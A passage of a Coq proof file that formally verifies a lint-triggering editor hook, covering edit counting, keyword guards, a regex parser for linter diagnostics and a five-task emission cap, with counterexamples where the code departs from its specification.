Proof. unfold matchesSomeKeyword. apply existsb_exists. Qed.

(** The guard when the name it checks is known. *)
Lemma keywordGuard_checks (c : CheckLintConfig) (sn : option string)
      (kws : list string) (name : string) :
  keywords c = Some kws -> kws <> [] ->
  orStr (orElse sn (taskListId c)) "" = name -> name <> "" ->
  keywordGuard c sn = true <-> matchesSomeKeyword kws name.
Proof.
  intros Hk Hne Hn Hname. unfold keywordGuard. rewrite Hk, Hn.
  apply truthy_iff in Hname. rewrite Hname.
  destruct kws as [|k kws]; [contradiction|].
  cbn [List.length Nat.ltb Nat.leb andb]. rewrite negb_involutive.
  apply existsb_keyword_iff.
Qed.

Lemma keywordGuard_no_name (c : CheckLintConfig) (sn : option string) :
  orStr (orElse sn (taskListId c)) "" = "" -> keywordGuard c sn = true.
Proof.
  intros Hn. unfold keywordGuard. rewrite Hn. cbn [truthy String.eqb negb].
  now rewrite andb_false_r.
Qed.

(** C2, as the code has it. With a non-empty list of keywords: an event
    with a non-empty session name is counted exactly when that name
    contains a keyword, letter case apart; with no session name the
    configured task list id, when there is one, is checked in its place;
    the check is skipped only when both are missing. *)
Theorem keyword_guard_on_name_or_task_list
        (w : World) (h : HookInput) (f : string) (kws : list string) :
  stdinJson w = Some h ->
  otherGuards w h = true ->
  editedPath h = Some f ->
  keywords (configFor w h) = Some kws ->
  kws <> [] ->
  (forall name, sessionNameFor w h = Some name -> name <> "" ->
                (counted w = true <-> matchesSomeKeyword kws name))
  /\ (forall listId,
         sessionNameFor w h = None \/ sessionNameFor w h = Some "" ->
         taskListId (configFor w h) = Some listId -> listId <> "" ->
         (counted w = true <-> matchesSomeKeyword kws listId))
  /\ (sessionNameFor w h = None \/ sessionNameFor w h = Some "" ->
      taskListId (configFor w h) = None \/ taskListId (configFor w h) = Some "" ->
      counted w = true).
Proof.
  intros Hin Hg Hf Hk Hne.
  rewrite (counted_iff_keywordGuard w h f Hin Hg Hf).
  split; [|split].
  - intros name Hs Hname. apply keywordGuard_checks with (name := name); auto.
    rewrite Hs. unfold orElse, orStr.
    apply truthy_iff in Hname. now rewrite Hname, Hname.
  - intros listId Hs Hl Hlist. apply keywordGuard_checks with (name := listId); auto.
    rewrite Hl. apply truthy_iff in Hlist.
    destruct Hs as [-> | ->]; unfold orElse, orStr; cbn; now rewrite Hlist.
  - intros Hs Hl. apply keywordGuard_no_name.
    destruct Hs as [-> | ->], Hl as [-> | ->]; reflexivity.
Qed.

(** C10. An event whose [tool_input] has neither [file_path] nor
    [notebook_path] is approved and nothing else happens: no state file is
    written, so every session state stays as it was. *)
Theorem no_path_no_state_change (w : World) (h : HookInput) :
  stdinJson w = Some h ->
  tool_input h "file_path" = None ->
  tool_input h "notebook_path" = None ->
  stdout (run w) = [approveJson]
  /\ stateWrite (run w) = None
  /\ (forall name, filesAfter w name = stateFiles w name)
  /\ taskWrites (run w) = []
  /\ executed (run w) = []
  /\ stderr (run w) = [].
Proof.
  intros Hin Hf Hn.
  assert (He : editedPath h = None) by (unfold editedPath; now rewrite Hf, Hn).
  assert (Hr : run w = approveOnly).
  { unfold run. rewrite Hin, He.
    repeat match goal with
           | |- context [if ?b then _ else _] => destruct b
           end; reflexivity. }
  unfold filesAfter. rewrite Hr. repeat split.
Qed.

(** [run] with its guards gathered. *)
Lemma run_unfold (w : World) :
  run w =
  match stdinJson w with
  | None => approveOnly
  | Some h =>
      if (otherGuards w h && keywordGuard (configFor w h) (sessionNameFor w h))%bool
      then match editedPath h with
           | None => approveOnly
           | Some filePath => countEdit w (configFor w h) h filePath
           end
      else approveOnly
  end.
Proof.
  unfold run, otherGuards. destruct (stdinJson w) as [h|]; [|reflexivity].
  destruct (arrIncludes EDIT_TOOLS (tool_name h)); [|reflexivity].
  destruct (isValidRepoPattern (cwd h)); [|reflexivity].
  cbn [negb andb].
  destruct (enabled (configFor w h)) as [[|]|]; cbn [negb andb]; try reflexivity;
    now destruct (keywordGuard _ _).
Qed.

Lemma arrIncludes_In (l : list string) (x : string) :
  arrIncludes l x = true <-> In x l.
Proof.
  unfold arrIncludes. rewrite existsb_exists. split.
  - intros [y [Hy E]]. apply String.eqb_eq in E. now subst.
  - intros H. exists x. split; [assumption | apply String.eqb_refl].
Qed.

Lemma recordEdit_In (files : list string) (f : string) : In f (recordEdit files f).
Proof.
  unfold recordEdit. destruct (arrIncludes files f) eqn:E.
  - now apply arrIncludes_In.
  - apply in_or_app. right. now left.
Qed.

(** The state a triggering event saves. *)
Lemma countEdit_trigger (w : World) (c : CheckLintConfig) (h : HookInput) (f : string) :
  (threshold c <= editCount (getSessionState w (session_id h)) + 1)%Z ->
  stateWrite (countEdit w c h f)
  = Some (stateFileName (session_id h),
          {| editCount := 0;
             editedFiles := recordEdit (editedFiles (getSessionState w (session_id h))) f;
             lastLintRun := clock w (List.length (taskWrites (countEdit w c h f))) |}).
Proof.
  intros Ht. apply Z.leb_le in Ht. unfold countEdit. rewrite Ht. reflexivity.
Qed.

(** C1, as the code has it. After a trigger the saved state has
    [editCount] 0 and a fresh [lastLintRun], whatever the lint run did;
    [editedFiles] is not cleared: it is the stored list with the edited path
    recorded, so it holds that path. *)
Theorem trigger_resets_counter_keeps_files (w : World) (h : HookInput) (f : string) :
  stdinJson w = Some h ->
  otherGuards w h = true ->
  keywordGuard (configFor w h) (sessionNameFor w h) = true ->
  editedPath h = Some f ->
  (threshold (configFor w h) <= editCount (getSessionState w (session_id h)) + 1)%Z ->
  exists st,
    stateWrite (run w) = Some (stateFileName (session_id h), st)
    /\ editCount st = 0%Z
    /\ lastLintRun st = clock w (List.length (taskWrites (run w)))
    /\ editedFiles st = recordEdit (editedFiles (getSessionState w (session_id h))) f
    /\ In f (editedFiles st).
Proof.
  intros Hin Hg Hk Hf Ht.
  rewrite (run_guarded w h Hin Hg), Hk, Hf.
  rewrite (countEdit_trigger w (configFor w h) h f Ht).
  eexists. split; [reflexivity|]. cbn. repeat split. apply recordEdit_In.
Qed.






(** C1 as stated fails: of three edits of src/a.ts in a new session the
    third triggers the lint run, and the state it saves still lists the
    file. *)
Lemma trigger_keeps_edited_files :
  executed (run (nextWorld (nextWorld firstEdit))) = ["bun lint"]
  /\ stateWrite (run (nextWorld (nextWorld firstEdit)))
     = Some ("checklint-s1.json",
             {| editCount := 0; editedFiles := ["src/a.ts"]; lastLintRun := 1000 |}).
Proof. split; reflexivity. Qed.

Lemma trigger_resets_counter_keeps_files_witness :
  exists st,
    stateWrite (run thirdEditLintFails)
    = Some (stateFileName (session_id (editOf "src/a.ts")), st)
    /\ editCount st = 0%Z
    /\ lastLintRun st = clock thirdEditLintFails (List.length (taskWrites (run thirdEditLintFails)))
    /\ editedFiles st
       = recordEdit (editedFiles (getSessionState thirdEditLintFails
                                                  (session_id (editOf "src/a.ts"))))
                    "src/a.ts"
    /\ In "src/a.ts" (editedFiles st).
Proof.
  apply (trigger_resets_counter_keeps_files thirdEditLintFails (editOf "src/a.ts") "src/a.ts");
    first [reflexivity | vm_compute; discriminate].
Defined.

(** C2 as stated fails: without a session name the keyword check is not
    skipped when a task list id is configured; here "proj-bugfixes" holds no
    keyword and the event is not counted. *)
Lemma nameless_event_checked_against_task_list :
  sessionNameFor namelessWithTaskList (editOf "src/a.ts") = None
  /\ keywords (configFor namelessWithTaskList (editOf "src/a.ts")) = Some ["dev"]
  /\ otherGuards namelessWithTaskList (editOf "src/a.ts") = true
  /\ editedPath (editOf "src/a.ts") = Some "src/a.ts"
  /\ counted namelessWithTaskList = false.
Proof. repeat split. Qed.

Lemma keyword_guard_on_name_or_task_list_witness :
  counted thirdEditLintPasses = true.
Proof.
  assert (Hne : ["dev"] <> []) by discriminate.
  destruct (keyword_guard_on_name_or_task_list
              thirdEditLintPasses (editOf "src/a.ts") "src/a.ts" ["dev"]
              eq_refl eq_refl eq_refl eq_refl Hne)
    as (H & _ & _).
  apply (H "my-dev"); [reflexivity | discriminate|].
  exists "dev". split; [now left | reflexivity].
Defined.

Lemma no_path_no_state_change_witness :
  stdout (run pathlessEdit) = [approveJson]
  /\ stateWrite (run pathlessEdit) = None
  /\ (forall name, filesAfter pathlessEdit name = stateFiles pathlessEdit name)
  /\ taskWrites (run pathlessEdit) = []
  /\ executed (run pathlessEdit) = []
  /\ stderr (run pathlessEdit) = [].
Proof.
  apply (no_path_no_state_change pathlessEdit editWithoutPath); reflexivity.
Defined.


End Trigger.

(* ===================================================================== *)
(** ** Task emitter: the cap on emitted tasks *)
(* ===================================================================== *)

Module Emission.
Import JS JSFacts Hook Spec.

Lemma createTasks_loop_length (w : World) (listId : string) (es : list LintError) :
  forall i, List.length (createTasks_loop w listId i es) = List.length es.
Proof. induction es as [|e es IH]; intros i; simpl; [reflexivity | now rewrite IH]. Qed.


Lemma valid_truthy (cmd : string) : isValidLintCommand cmd = true -> truthy cmd = true.
Proof. unfold isValidLintCommand. now destruct (truthy cmd). Qed.




End Emission.

(* ===================================================================== *)
(** ** Diagnostic parser *)
(* ===================================================================== *)

Module Parser.
Import JS JSFacts Regex RegexFacts Hook Spec.

Local Open Scope regex_scope.

Lemma colon_exact (x : ascii) : Ascii.eqb ":" x = true -> x = ":"%char.
Proof. intros H. apply Ascii.eqb_eq in H. now subst. Qed.

Lemma colon_canon (x : ascii) :
  Ascii.eqb (canonChar x) (canonChar ":") = true -> x = ":"%char.
Proof.
  destruct x as [[] [] [] [] [] [] [] []]; vm_compute; intros H;
    first [reflexivity | discriminate H].
Qed.

(** The head shared by the three patterns: [(.+?):(\d+):(\d+)]. *)
Lemma location_prefix (col1 col2 : ascii -> bool) (tail : regex)
      (w rest : string) (m : captures) :
  (forall x, col1 x = true -> x = ":"%char) ->
  (forall x, col2 x = true -> x = ":"%char) ->
  matches (RGroup 1 (RPlus false isDot) ;; RChar col1 ;;
           RGroup 2 (RPlus true isDigit) ;; RChar col2 ;;
           RGroup 3 (RPlus true isDigit) ;; tail) w rest [] m ->
  exists f l c t,
    w = f ++ ":" ++ l ++ ":" ++ c ++ t
    /\ f <> "" /\ Digits l /\ Digits c
    /\ matches tail t rest (capSet 3 c (capSet 2 l (capSet 1 f []))) m.
Proof.
  intros Hc1 Hc2 M.
  apply inv_seq in M as (f & w1 & k1 & -> & M1 & M).
  apply inv_group in M1 as (k1' & -> & M1).
  apply inv_plus in M1 as (Hf & _ & ->).
  apply inv_seq in M as (x1 & w2 & k2 & -> & Mx1 & M).
  apply inv_char in Mx1 as (a1 & -> & Ha1 & ->). apply Hc1 in Ha1. subst a1.
  apply inv_seq in M as (l & w3 & k3 & -> & M2 & M).
  apply inv_group in M2 as (k3' & -> & M2).
  apply inv_plus in M2 as (Hl & Hld & ->).
  apply inv_seq in M as (x2 & w4 & k4 & -> & Mx2 & M).
  apply inv_char in Mx2 as (a2 & -> & Ha2 & ->). apply Hc2 in Ha2. subst a2.
  apply inv_seq in M as (c & t & k5 & -> & M3 & M).
  apply inv_group in M3 as (k5' & -> & M3).
  apply inv_plus in M3 as (Hc & Hcd & ->).
  exists f, l, c, t. repeat split; assumption.
Qed.

Lemma location_groups (tail : regex) (t rest f l c : string) (m : captures) :
  (forall n, In n (groupsOf tail) -> 3 < n) ->
  matches tail t rest (capSet 3 c (capSet 2 l (capSet 1 f []))) m ->
  grp 1 m = f /\ grp 2 m = l /\ grp 3 m = c.
Proof.
  intros Htail M.
  assert (Hfr : forall n, n <= 3 -> ~ In n (groupsOf tail))
    by (intros n Hn Hin; apply Htail in Hin; lia).
  unfold grp.
  rewrite (matches_frame _ _ _ _ _ 1 M) by (apply Hfr; lia).
  rewrite (matches_frame _ _ _ _ _ 2 M) by (apply Hfr; lia).
  rewrite (matches_frame _ _ _ _ _ 3 M) by (apply Hfr; lia).
  now repeat split.
Qed.

Lemma readBy_location (col1 col2 : ascii -> bool) (tail : regex)
      (ln : string) (m : captures) :
  (forall x, col1 x = true -> x = ":"%char) ->
  (forall x, col2 x = true -> x = ":"%char) ->
  (forall n, In n (groupsOf tail) -> 3 < n) ->
  ReadBy (RGroup 1 (RPlus false isDot) ;; RChar col1 ;;
          RGroup 2 (RPlus true isDigit) ;; RChar col2 ;;
          RGroup 3 (RPlus true isDigit) ;; tail) ln m ->
  LocationOf ln (grp 1 m) (grp 2 m) (grp 3 m).
Proof.
  intros Hc1 Hc2 Htail (w & rest & -> & M).
  destruct (location_prefix col1 col2 tail w rest m Hc1 Hc2 M)
    as (f & l & c & t & -> & Hf & Hl & Hc & Mt).
  destruct (location_groups tail t rest f l c m Htail Mt) as (-> & -> & ->).
  exists (t ++ rest).
  split; [now rewrite !append_assoc | split; [exact Hf | split; assumption]].
Qed.

Ltac above3 :=
  let n := fresh "n" in
  let H := fresh "H" in
  intros n H; simpl in H;
  repeat (destruct H as [<-|H]; [lia|]); contradiction.

Lemma eslint_location (ln : string) (m : captures) :
  ReadBy eslintRe ln m -> LocationOf ln (grp 1 m) (grp 2 m) (grp 3 m).
Proof.
  apply readBy_location; [apply colon_canon | apply colon_canon | above3].
Qed.

Lemma biome_location (ln : string) (m : captures) :
  ReadBy biomeRe ln m -> LocationOf ln (grp 1 m) (grp 2 m) (grp 3 m).
Proof.
  apply readBy_location; [apply colon_canon | apply colon_canon | above3].
Qed.

Lemma generic_location (ln : string) (m : captures) :
  ReadBy genericRe ln m -> LocationOf ln (grp 1 m) (grp 2 m) (grp 3 m).
Proof.
  apply readBy_location; [apply colon_exact | apply colon_exact | above3].
Qed.

(** [parseInt] on a run of digits is its decimal value. *)
Lemma parseInt_digits (l : string) :
  Digits l -> parseInt l = Some (Z.of_N (digitsValue 0 l)).
Proof.
  intros [Hne Hd]. destruct l as [|c l]; [contradiction|].
  simpl in Hd. apply andb_true_iff in Hd as [Hc _].
  destruct c as [[] [] [] [] [] [] [] []];
    try (vm_compute in Hc; discriminate Hc); reflexivity.
Qed.

Lemma startsWith_space_prefix (f r : string) :
  f <> "" -> startsWith (f ++ r) " " = startsWith f " ".
Proof.
  intros Hf. destruct f as [|c f]; [contradiction|].
  apply Bool.eq_iff_eq_true. rewrite !startsWith_iff.
  split; intros [t H]; simpl in H; injection H as -> _.
  - now exists f.
  - now exists (f ++ r).
Qed.

(** The guard of the generic dialect looks at group 1, which starts where
    the line starts. *)
Lemma generic_guard (ln : string) (m : captures) :
  ReadBy genericRe ln m -> startsWith (grp 1 m) " " = startsWith ln " ".
Proof.
  intros H. apply generic_location in H as (rest & E & Hf & _).
  rewrite E. symmetry. now apply startsWith_space_prefix.
Qed.

Lemma exec_readBy (r : regex) (ln : string) (m : captures) :
  exec r ln = Some m -> ReadBy r ln m.
Proof. apply exec_sound. Qed.

Section Located.
Variable ln : string.
Variable m : captures.

Lemma located_by (d : LintError) :
  LocationOf ln (grp 1 m) (grp 2 m) (grp 3 m) ->
  file d = grp 1 m -> line d = parseInt (grp 2 m) -> column d = parseInt (grp 3 m) ->
  Located ln d.
Proof.
  intros L Hf Hl Hc. exists (grp 1 m), (grp 2 m), (grp 3 m).
  destruct L as (rest & E & Hne & Dl & Dc).
  rewrite Hl, Hc, (parseInt_digits _ Dl), (parseInt_digits _ Dc).
  split; [|now repeat split]. exists rest.
  split; [exact E | split; [exact Hne | split; assumption]].
Qed.
End Located.

Lemma diagnoses_located (ln : string) (d : LintError) :
  Diagnoses ln d -> Located ln d.
Proof.
  intros [(m & R & ->)|[(_ & m & R & ->)|(_ & _ & _ & m & R & ->)]].
  - apply located_by with (m := m); [now apply eslint_location | reflexivity..].
  - apply located_by with (m := m); [now apply biome_location | reflexivity..].
  - apply located_by with (m := m); [now apply generic_location | reflexivity..].
Qed.

(** One line: either its diagnostic is pushed, or nothing is and the line
    is of no dialect. *)
Lemma parseStep_line (errors : list LintError) (ln : string) :
  (exists d, parseStep errors ln = (errors ++ [d])%list /\ Diagnoses ln d)
  \/ (parseStep errors ln = errors /\ ~ WellFormed ln).
Proof.
  unfold parseStep.
  destruct (exec eslintRe ln) as [m|] eqn:E1.
  { left. exists (eslintError m). split; [reflexivity|].
    left. exists m. split; [now apply exec_readBy | reflexivity]. }
  apply exec_none in E1.
  destruct (exec biomeRe ln) as [m|] eqn:E2.
  { left. exists (biomeError m). split; [reflexivity|].
    right; left. split; [exact E1|].
    exists m. split; [now apply exec_readBy | reflexivity]. }
  apply exec_none in E2.
  destruct (exec genericRe ln) as [m|] eqn:E3.
  - apply exec_readBy in E3. rewrite (generic_guard ln m E3).
    destruct (startsWith ln " ") eqn:S; cbn [negb].
    + right. split; [reflexivity|].
      intros [C|[G|[_ G]]]; [now apply E1 | now apply E2 | congruence].
    + left. exists (genericError ln m). split; [reflexivity|].
      right; right. repeat split; try assumption. now exists m.
  - apply exec_none in E3. right. split; [reflexivity|].
    intros [C|[G|[G _]]]; [now apply E1 | now apply E2 | now apply E3].
Qed.

Lemma parseLoop_parsesTo (lns : list string) :
  forall errors, exists ds,
    fold_left parseStep lns errors = (errors ++ ds)%list /\ ParsesTo lns ds.
Proof.
  induction lns as [|ln lns IH]; intros errors; simpl.
  - exists []. split; [now rewrite app_nil_r | constructor].
  - destruct (parseStep_line errors ln) as [(d & -> & D)|(-> & N)].
    + destruct (IH (errors ++ [d])%list) as (ds & -> & P).
      exists (d :: ds). split; [now rewrite <- app_assoc | now constructor].
    + destruct (IH errors) as (ds & -> & P).
      exists ds. split; [reflexivity | now constructor].
Qed.

Lemma parseLintOutput_parsesTo (output : string) :
  ParsesTo (split "010" output) (parseLintOutput output).
Proof.
  unfold parseLintOutput.
  destruct (parseLoop_parsesTo (split "010" output) []) as (ds & -> & P).
  exact P.
Qed.


Lemma parsesTo_in (lns : list string) (ds : list LintError) (d : LintError) :
  ParsesTo lns ds -> In d ds -> exists ln, In ln lns /\ Diagnoses ln d.
Proof.
  induction 1 as [|ln d' lns ds D _ IH|ln lns ds N _ IH]; intros Hin.
  - contradiction.
  - destruct Hin as [<-|Hin].
    + exists ln. split; [now left | assumption].
    + destruct (IH Hin) as (l & Hl & Dl). exists l. split; [now right | assumption].
  - destruct (IH Hin) as (l & Hl & Dl). exists l. split; [now right | assumption].
Qed.

(** Under the [i] flag a lower-case letter of the pattern is met only by
    that letter, in either case. *)
Lemma canon_lower (c x : ascii) :
  isLower c = true ->
  Ascii.eqb (canonChar x) (canonChar c) = true -> lowerChar x = c.
Proof.
  destruct c as [[] [] [] [] [] [] [] []];
    (intros Hl; vm_compute in Hl; discriminate Hl)
    || (intros _; destruct x as [[] [] [] [] [] [] [] []]; vm_compute; intros H;
        first [reflexivity | discriminate H]).
Qed.

Lemma litI_lower (s : string) :
  forall c w rest c0 c1,
    matches (litI c s) w rest c0 c1 ->
    allChars isLower (String c s) = true ->
    toLowerCase w = String c s.
Proof.
  induction s as [|c' s IH]; intros c w rest c0 c1 M Hs;
    simpl in M; cbn [allChars] in Hs; apply andb_true_iff in Hs as [Hc Hs].
  - apply inv_char in M as (x & -> & Hx & _). simpl. f_equal. now apply canon_lower.
  - apply inv_seq in M as (w1 & w2 & k & -> & M1 & M2).
    apply inv_char in M1 as (x & -> & Hx & _).
    simpl. f_equal; [now apply canon_lower | now apply (IH c' w2 rest k c1)].
Qed.

(** Group 4 of the common pattern holds "error" or "warning", letter case
    apart: the severity stored is one of the two. *)
Lemma eslint_severity (ln : string) (m : captures) :
  ReadBy eslintRe ln m ->
  severity (eslintError m) = "error" \/ severity (eslintError m) = "warning".
Proof.
  intros (w & rest & -> & M). unfold eslintRe in M.
  apply location_prefix in M as (f & l & c & t & -> & _ & _ & _ & M);
    [|apply colon_canon|apply colon_canon].
  apply inv_seq in M as (x & t1 & k1 & -> & Mx & M).
  apply inv_char in Mx as (a & -> & _ & ->).
  apply inv_seq in M as (sp & t2 & k2 & -> & Ms & M).
  apply inv_star in Ms as (_ & ->).
  apply inv_seq in M as (sev & t3 & k3 & -> & Mg & M).
  apply inv_group in Mg as (k3' & -> & Mg).
  assert (G4 : grp 4 m = sev).
  { unfold grp. rewrite (matches_frame _ _ _ _ _ 4 M); [reflexivity|].
    simpl. intros [H|[H|[]]]; discriminate H. }
  unfold eslintError. cbn [severity]. rewrite G4.
  apply inv_alt in Mg as [Mg|Mg]; [left | right];
    now apply litI_lower in Mg.
Qed.

(** Every diagnostic has one of the two severities. *)
Lemma diagnoses_severity (ln : string) (d : LintError) :
  Diagnoses ln d -> severity d = "error" \/ severity d = "warning".
Proof.
  intros [(m & R & ->)|[(_ & m & R & ->)|(_ & _ & _ & m & R & ->)]].
  - now apply eslint_severity with (ln := ln).
  - unfold biomeError. cbn [severity]. destruct (startsWith _ _); [now left | now right].
  - unfold genericError. cbn [severity]. destruct (includes _ _); [now left | now right].
Qed.

Lemma parseLintOutput_severity (output : string) (d : LintError) :
  In d (parseLintOutput output) -> severity d = "error" \/ severity d = "warning".
Proof.
  intros Hin.
  destruct (parsesTo_in _ _ d (parseLintOutput_parsesTo output) Hin) as (ln & _ & D).
  now apply diagnoses_severity with (ln := ln).
Qed.







(** C8, as the code has it. A line of the generic shape that the two
    earlier dialects do not have is dropped when it begins with a space and
    accepted otherwise, also when it begins with other white space such as a
    tab; its severity is "error" when the line holds "error", letter case
    apart, and "warning" otherwise. *)
Theorem generic_fallback_space_guard (errors : list LintError) (ln : string) :
  ~ Common ln -> ~ Grouped ln -> GenericShape ln ->
  (startsWith ln " " = true -> parseStep errors ln = errors)
  /\ (startsWith ln " " = false ->
      exists d, parseStep errors ln = (errors ++ [d])%list
                /\ Located ln d
                /\ rule d = None
                /\ severity d = if includes (toLowerCase ln) "error"
                                then "error" else "warning").
Proof.
  intros C G S. apply exec_none in C, G. apply exec_accepts in S.
  unfold parseStep. rewrite C, G.
  destruct (exec genericRe ln) as [m|] eqn:E; [|congruence].
  apply exec_readBy in E. rewrite (generic_guard ln m E).
  split; intros Hs; rewrite Hs; cbn [negb]; [reflexivity|].
  exists (genericError ln m). split; [reflexivity|].
  split; [|split; reflexivity].
  apply located_by with (m := m); [now apply generic_location | reflexivity..].
Qed.



Lemma generic_fallback_space_guard_witness :
  exists d, parseStep [] plainLine = [d]
            /\ Located plainLine d
            /\ rule d = None
            /\ severity d = "warning".
Proof.
  assert (C : ~ Common plainLine) by (apply exec_none; reflexivity).
  assert (G : ~ Grouped plainLine) by (apply exec_none; reflexivity).
  assert (S : GenericShape plainLine)
    by (apply exec_accepts; vm_compute; discriminate).
  destruct (generic_fallback_space_guard [] plainLine C G S) as (_ & H).
  exact (H eq_refl).
Defined.

(** C8 as stated fails: a line of the generic shape that begins with a tab
    is accepted. *)
Lemma tab_led_line_is_accepted :
  isSpace "009" = true
  /\ startsWith tabLine (String "009" "") = true
  /\ exec eslintRe tabLine = None
  /\ exec biomeRe tabLine = None
  /\ parseLintOutput tabLine
     = [ {| file := String "009" "b.ts"; line := Some 1%Z; column := Some 2%Z;
            message := "msg"; rule := None; severity := "warning" |} ].
Proof. repeat split. Qed.


End Parser.

(* ===================================================================== *)
(** ** The scenarios of the specification *)
(* ===================================================================== *)

Module Scenarios.
Import JS Hook Spec.

Example common_line_parses :
  parseLintOutput commonLine
  = [ {| file := "src/a.ts"; line := Some 10%Z; column := Some 5%Z;
         message := "'x' is never used"; rule := Some "no-unused-vars";
         severity := "error" |} ].
Proof. reflexivity. Qed.

Example third_edit_triggers :
  executed (run firstEdit) = []
  /\ executed (run (nextWorld firstEdit)) = []
  /\ executed (run (nextWorld (nextWorld firstEdit))) = ["bun lint"].
Proof. repeat split. Qed.

Example feature_session_not_counted : counted featureSession = false.
Proof. reflexivity. Qed.

(** The effective threshold is the configured one clamped to [3, 7]. *)
Lemma threshold_clamped (c : CheckLintConfig) :
  (3 <= threshold c <= 7)%Z
  /\ forall n, editThreshold c = Some n -> n <> 0%Z ->
               threshold c = Z.min 7 (Z.max 3 n).
Proof.
  unfold threshold. split; [lia|].
  intros n -> Hn. destruct n; [contradiction | reflexivity | reflexivity].
Qed.

(** An event of another tool changes nothing. *)
Lemma other_tools_ignored (w : World) (h : HookInput) :
  stdinJson w = Some h ->
  arrIncludes EDIT_TOOLS (tool_name h) = false ->
  run w = approveOnly.
Proof. intros Hin Ht. unfold run. now rewrite Hin, Ht. Qed.

End Scenarios.

(* ===================================================================== *)
(** ** What every invocation keeps *)
(* ===================================================================== *)

Module Invocation.
Import JS JSFacts Hook Spec.

(** An invocation either only approves, or passed every guard and counted
    the edit. *)
Lemma run_cases (w : World) :
  run w = approveOnly
  \/ exists h f,
       stdinJson w = Some h
       /\ otherGuards w h = true
       /\ keywordGuard (configFor w h) (sessionNameFor w h) = true
       /\ editedPath h = Some f
       /\ run w = countEdit w (configFor w h) h f.
Proof.
  rewrite Trigger.run_unfold.
  destruct (stdinJson w) as [h|] eqn:Hin; [|now left].
  destruct (otherGuards w h) eqn:Hg; [|now left].
  destruct (keywordGuard _ _) eqn:Hk; [|now left].
  destruct (editedPath h) as [f|] eqn:Hf; [|now left].
  right. exists h, f. cbn [andb]. now repeat split.
Qed.

(** What the lint stage can leave behind. *)
Lemma lintStage_shape (w : World) (c : CheckLintConfig) (dir : string) (ed : list string) :
  lintStage w c dir ed = noEffects
  \/ exists cmd,
       orElse (lintCommand c) (detectLintCommand w dir) = Some cmd
       /\ isValidLintCommand cmd = true
       /\ lintExecuted (lintStage w c dir ed) = [cmd]
       /\ ((lintTasks (lintStage w c dir ed) = [] /\ lintLog (lintStage w c dir ed) = [])
           \/ exists listId,
                listId <> ""
                /\ orElse (taskListId c) (getProjectTaskList w dir) = Some listId
                /\ fst (runLint w dir cmd) = false
                /\ createTasks c <> Some false
                /\ lintTasks (lintStage w c dir ed)
                   = createTasks_loop w listId 0
                       (firstn 5 (filter (isRelevant ed)
                                         (parseLintOutput (snd (runLint w dir cmd)))))).
Proof.
  unfold lintStage.
  destruct (orElse (lintCommand c) _) as [cmd|] eqn:Hcmd; [|now left].
  destruct (truthy cmd && isValidLintCommand cmd)%bool eqn:Hv; cbn [negb]; [|now left].
  apply andb_true_iff in Hv as [_ Hv].
  right. exists cmd. split; [reflexivity|]. split; [exact Hv|].
  destruct (runLint w dir cmd) as [success output] eqn:Hrun. cbn [fst snd].
  destruct success; [split; [reflexivity | now left]|].
  destruct (createTasks c) as [[|]|] eqn:Hc; cbn [negb andb];
    try (split; [reflexivity | now left]).
  all: destruct (Nat.ltb 0 _); cbn [negb]; [|split; [reflexivity | now left]].
  all: destruct (orElse (taskListId c) _) as [listId|] eqn:Hl;
    [|split; [reflexivity | now left]].
  all: destruct (truthy listId) eqn:Ht; cbn [negb]; [|split; [reflexivity | now left]].
  all: split; [reflexivity|]; right; exists listId; apply truthy_iff in Ht.
  all: repeat split; try assumption; try reflexivity; discriminate.
Qed.


(** X2. An event that fails a guard (no readable input, a tool that is not an
    edit tool, a directory name of another shape, a disabled hook, a name
    without keyword) leaves nothing but the approval. *)
Theorem failed_guard_leaves_no_trace (w : World) :
  (stdinJson w = None
   \/ exists h, stdinJson w = Some h
                /\ (arrIncludes EDIT_TOOLS (tool_name h) = false
                    \/ isValidRepoPattern (cwd h) = false
                    \/ enabled (configFor w h) = Some false
                    \/ keywordGuard (configFor w h) (sessionNameFor w h) = false)) ->
  run w = approveOnly /\ forall name, filesAfter w name = stateFiles w name.
Proof.
  intros H.
  assert (Hr : run w = approveOnly).
  { rewrite Trigger.run_unfold.
    destruct H as [-> | (h & -> & H)]; [reflexivity|].
    unfold otherGuards.
    destruct H as [-> | [-> | [-> | ->]]]; cbn [andb negb];
      rewrite ?andb_false_r; reflexivity. }
  split; [exact Hr|]. intros name. unfold filesAfter. now rewrite Hr.
Qed.

Lemma failed_guard_leaves_no_trace_witness :
  run featureSession = approveOnly
  /\ forall name, filesAfter featureSession name = stateFiles featureSession name.
Proof.
  apply (failed_guard_leaves_no_trace featureSession).
  right. exists (editOf "src/a.ts"). split; [reflexivity|].
  right; right; right. reflexivity.
Defined.



Lemma firstn_In (A : Type) (n : nat) (l : list A) (x : A) :
  In x (firstn n l) -> In x l.
Proof.
  intros H. rewrite <- (firstn_skipn n l). apply in_or_app. now left.
Qed.

Lemma createTasks_loop_In (w : World) (listId : string) (es : list LintError)
      (t : string * Task) :
  forall i, In t (createTasks_loop w listId i es) ->
            exists e, In e es /\ IsTaskFor listId e t /\ status (snd t) = "pending".
Proof.
  induction es as [|e es IH]; intros i; simpl; [intros []|].
  intros [<- | H].
  - exists e. split; [now left|]. split; [|reflexivity].
    split; [reflexivity|]. simpl. now eexists _, _, _.
  - destruct (IH _ H) as (e' & He & Ht). exists e'. split; [now right | exact Ht].
Qed.

(** X4. Whatever the lint tool prints, one invocation writes at most five
    tasks. *)
Theorem at_most_five_tasks (w : World) : List.length (taskWrites (run w)) <= 5.
Proof.
  destruct (run_cases w) as [-> | (h & f & _ & _ & _ & _ & ->)]; [simpl; lia|].
  unfold countEdit. destruct (Z.leb _ _); cbn [taskWrites]; [|simpl; lia].
  match goal with |- context [lintStage ?a ?b ?c ?d] =>
    destruct (lintStage_shape a b c d)
      as [-> | (cmd & _ & _ & _ & [[-> _] | (l & _ & _ & _ & _ & ->)])] end;
    try (simpl; lia).
  rewrite Emission.createTasks_loop_length. apply firstn_le_length.
Qed.

(** X5. Every task written describes a diagnostic that was parsed from the
    output of the failed lint command and is relevant to the edited files;
    it goes to a task list with a non-empty name, as a pending task, and
    its severity is "error" or "warning". *)
Theorem tasks_describe_relevant_diagnostics (w : World) (t : string * Task) :
  In t (taskWrites (run w)) ->
  exists h f cmd e,
    stdinJson w = Some h
    /\ editedPath h = Some f
    /\ executed (run w) = [cmd]
    /\ fst (runLint w (cwd h) cmd) = false
    /\ In e (parseLintOutput (snd (runLint w (cwd h) cmd)))
    /\ isRelevant (recordEdit (editedFiles (getSessionState w (session_id h))) f) e = true
    /\ IsTaskFor (fst t) e t
    /\ fst t <> ""
